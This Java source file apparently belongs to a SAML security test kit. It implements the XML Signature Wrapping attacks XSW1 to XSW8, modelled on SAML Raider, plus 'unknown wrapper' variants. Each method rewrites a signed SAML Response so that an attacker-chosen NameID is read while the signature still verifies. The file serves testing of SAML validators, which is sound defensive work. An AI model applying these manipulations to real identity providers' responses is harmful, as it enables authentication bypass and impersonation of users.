package io.cloudsign.saml.testkit.internal;

import static io.cloudsign.saml.testkit.internal.Attacks.ASSERTION_NS;
import static io.cloudsign.saml.testkit.internal.Attacks.DSIG_NS;

import org.w3c.dom.Document;
import org.w3c.dom.Element;

/**
 * XML Signature Wrapping: XSW1–XSW8 exactly as SAML Raider's XSW helper builds them (after "On
 * Breaking SAML", Somorovsky et al. 2012), and the "unknown wrapper" variants. Each works on a
 * signed Response document; {@code evilNameId} (may be null: no content change) plays SAML Raider's
 * match-and-replace on the element the attacker wants read. Not API.
 */
public final class Wrapping {
  private static final String WRAPPER_NS = "urn:attacker:wrapper";

  private Wrapping() {}

  /**
   * XSW1 ({@code genuineInSignature}) and XSW2: the Response gets a new ID; an unsigned copy of the
   * genuine Response goes into its Signature (XSW1) or right before it (XSW2).
   */
  public static void responseWrapped(Document doc, String evilNameId, boolean genuineInSignature) {
    Element response = doc.getDocumentElement();
    Element signature = Attacks.signatureOf(response, "the Response");
    Element clone = (Element) response.cloneNode(true);
    replace(response, evilNameId);
    clone.removeChild(Xml.children(clone, DSIG_NS, "Signature").get(0));
    if (genuineInSignature) {
      signature.appendChild(clone);
    } else {
      response.insertBefore(clone, signature);
    }
    response.setAttributeNS(null, "ID", "_evil_response_ID");
  }

  /**
   * XSW3 and XSW4 ({@code genuineInside}): an unsigned evil copy (new ID) of the signed Assertion
   * goes before it (XSW3), or at the end of the Response with the genuine one inside (XSW4).
   */
  public static void evilAssertionAdded(Document doc, String evilNameId, boolean genuineInside) {
    Element response = doc.getDocumentElement();
    Element assertion = Attacks.assertion(doc);
    Attacks.signatureOf(assertion, "the Assertion");
    Element evil = (Element) assertion.cloneNode(true);
    replace(evil, evilNameId);
    evil.setAttributeNS(null, "ID", "_evil_assertion_ID");
    evil.removeChild(Xml.children(evil, DSIG_NS, "Signature").get(0));
    if (genuineInside) {
      response.appendChild(evil);
      evil.appendChild(assertion);
    } else {
      response.insertBefore(evil, assertion);
    }
  }

  /**
   * XSW5 and XSW6 ({@code copyInSignature}): the signed Assertion becomes the evil one (new ID,
   * genuine Signature kept); an unsigned genuine copy goes to the end of the Response (XSW5) or
   * into the Signature (XSW6).
   */
  public static void signedAssertionTurnedEvil(
      Document doc, String evilNameId, boolean copyInSignature) {
    Element evil = Attacks.assertion(doc);
    Element originalSignature = Attacks.signatureOf(evil, "the Assertion");
    Element copy = (Element) evil.cloneNode(true);
    replace(evil, evilNameId);
    copy.removeChild(Xml.children(copy, DSIG_NS, "Signature").get(0));
    if (copyInSignature) {
      originalSignature.appendChild(copy);
    } else {
      doc.getDocumentElement().appendChild(copy);
    }
    evil.setAttributeNS(null, "ID", "_evil_assertion_ID");
  }

  /** XSW7: an evil copy (same ID) in an {@code Extensions} of no namespace before the Assertion. */
  public static void evilCopyInNamelessExtensions(Document doc, String evilNameId) {
    Element response = doc.getDocumentElement();
    Element assertion = Attacks.assertion(doc);
    Attacks.signatureOf(assertion, "the Assertion");
    // SAML Raider uses createElement: an Extensions element in no namespace.
    Element extensions = doc.createElementNS(null, "Extensions");
    response.insertBefore(extensions, assertion);
    Element evil = (Element) assertion.cloneNode(true);
    replace(evil, evilNameId);
    evil.removeChild(Xml.children(evil, DSIG_NS, "Signature").get(0));
    extensions.appendChild(evil);
  }

  /** XSW8: as XSW5 with the same ID, the genuine copy in a {@code ds:Object} of the Signature. */
  public static void genuineCopyInSignatureObject(Document doc, String evilNameId) {
    Element evil = Attacks.assertion(doc);
    Element originalSignature = Attacks.signatureOf(evil, "the Assertion");
    Element copy = (Element) evil.cloneNode(true);
    replace(evil, evilNameId);
    copy.removeChild(Xml.children(copy, DSIG_NS, "Signature").get(0));
    // SAML Raider's createElement("Object") inside Entra's default-namespace Signature is a
    // ds:Object once serialised.
    Element object = doc.createElementNS(DSIG_NS, "Object");
    originalSignature.appendChild(object);
    object.appendChild(copy);
  }

  /**
   * The wrapper variant: the Assertion in place keeps the genuine Signature but gets a new ID and
   * {@code evilNameId}; an unsigned copy of the genuine Assertion (original ID) sits in an element
   * of an unknown namespace at the end of the Response, so the Reference still resolves to genuine,
   * digest-matching content.
   */
  public static void assertionInUnknownWrapper(Document doc, String evilNameId) {
    Element evil = Attacks.assertion(doc);
    Attacks.signatureOf(evil, "the Assertion");
    Element copy = (Element) evil.cloneNode(true);
    copy.removeChild(Xml.children(copy, DSIG_NS, "Signature").get(0));
    replace(evil, evilNameId);
    evil.setAttributeNS(null, "ID", "_evil_assertion_ID");
    appendWrapped(doc, copy);
  }

  /**
   * The wrapper variant on a Response signature: the Response gets a new ID (its Assertion a new ID
   * and {@code evilNameId}) but keeps the genuine Signature; an unsigned copy of the genuine
   * Response (original IDs) sits in an element of an unknown namespace at its end, so the Reference
   * resolves to matching content and no ID occurs twice.
   */
  public static void responseInUnknownWrapper(Document doc, String evilNameId) {
    Element response = doc.getDocumentElement();
    Element copy = (Element) response.cloneNode(true);
    copy.removeChild(Xml.children(copy, DSIG_NS, "Signature").get(0));
    Attacks.signatureOf(response, "the Response");
    response.setAttributeNS(null, "ID", "_evil_response_ID");
    for (Element a : Xml.children(response, ASSERTION_NS, "Assertion")) {
      String id = Attacks.newId();
      a.setAttributeNS(null, "ID", id);
      for (Element s : Xml.descendants(a, ASSERTION_NS, "AuthnStatement")) {
        s.setAttributeNS(null, "SessionIndex", id);
      }
      replace(a, evilNameId);
    }
    appendWrapped(doc, copy);
  }

  private static void appendWrapped(Document doc, Element copy) {
    Element wrapper = doc.createElementNS(WRAPPER_NS, "w:Wrapper");
    wrapper.setAttributeNS(Xml.XMLNS, "xmlns:w", WRAPPER_NS);
    wrapper.appendChild(copy);
    doc.getDocumentElement().appendChild(wrapper);
  }

  private static void replace(Element scope, String evilNameId) {
    if (evilNameId != null) {
      Attacks.setNameId(scope, evilNameId);
    }
  }
}
